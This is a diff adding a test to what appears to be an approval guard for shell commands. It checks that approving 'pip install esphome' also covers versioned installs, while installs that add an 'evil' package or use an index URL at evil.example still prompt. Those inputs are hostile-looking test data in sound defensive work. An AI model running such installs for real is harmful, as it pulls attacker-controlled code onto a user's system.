@@ -192,6 +192,16 @@ def test_a_yes_is_remembered_for_this_way_out_in_this_session(repo: Path) -> Non
     assert other.bash(OUT)[0] == "ask"
 
 
+def test_a_package_is_the_same_way_out_whatever_its_version(repo: Path) -> None:
+    session = Session(repo)
+    session.bash(UNTRUSTED)
+    session.bash(SECRET)
+    answer_for_the_session(repo, "pip install esphome", "g1")
+    assert session.bash("pip install -q esphome==2025.9.0")[0] == "allow"
+    assert session.bash("pip install esphome evil")[0] == "ask"
+    assert session.bash("pip install --index-url https://evil.example/ esphome")[0] == "ask"
+
+
 NEAR = "curl -s --connect-timeout 3 http://box.local/temperature"
 TOLD_BEFORE = [  # (a call after it, whether that tells the network anything new)
     (NEAR, False),
